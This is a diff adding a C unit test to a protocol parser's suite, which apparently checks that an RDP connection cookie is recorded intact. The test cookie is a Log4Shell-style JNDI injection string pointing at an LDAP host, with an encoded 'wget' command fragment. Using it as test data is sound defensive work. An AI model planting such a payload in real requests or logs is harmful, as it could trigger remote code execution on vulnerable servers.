@@ -461,6 +461,24 @@ static void rdp_openings(void **state)
 		}
 }
 
+/* Names that log collectors are to trip over are longer than any user's. */
+static void rdp_long_cookie(void **state)
+{
+	static const char name[] = "${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/"
+				   "d2dldCBodHRwOi8v}";
+	struct bytes c = { .len = 0 };
+
+	(void)state;
+	connect_tcp();
+	put(&c, "\3\0\0\0\0\xe0\0\0\0\0\0Cookie: mstshash=", 28);
+	put(&c, name, sizeof(name) - 1), put(&c, "\r\n", 2);
+	c.b[3] = (uint8_t)c.len, c.b[4] = (uint8_t)(c.len - 5);
+	say(CLIENT, &c);
+	assert_int_equal(last.facts.app, APP_RDP);
+	assert_int_equal(last.facts.rdp.cookie.len, sizeof(name) - 1);
+	assert_memory_equal(last.facts.rdp.cookie.b, name, sizeof(name) - 1);
+}
+
 static void rdp_standard_security(void **state)
 {
 	struct bytes c = { .len = 0 }, s = { .len = 0 };
@@ -536,6 +554,7 @@ int main(void)
 		TEST(ntlm_version_guard),
 		TEST(nbss_names),
 		TEST(rdp_openings),
+		TEST(rdp_long_cookie),
 		TEST(rdp_standard_security),
 		TEST(flood),
 	};
